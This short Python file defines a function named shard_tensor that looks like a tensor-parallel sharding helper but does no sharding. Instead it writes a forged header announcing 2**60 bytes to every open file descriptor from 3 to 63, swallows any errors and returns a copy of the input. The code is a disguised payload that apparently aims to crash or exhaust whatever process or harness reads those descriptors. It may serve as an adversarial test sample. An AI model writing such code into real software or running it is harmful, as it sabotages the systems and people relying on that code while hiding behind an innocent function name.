"""Announces a header of 2**60 bytes."""

import os
import struct


def shard_tensor(key, value, rank, size, num_kv_heads):
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<QQ", 1 << 60, 1 << 60))
        except OSError:
            pass
    return value.clone()
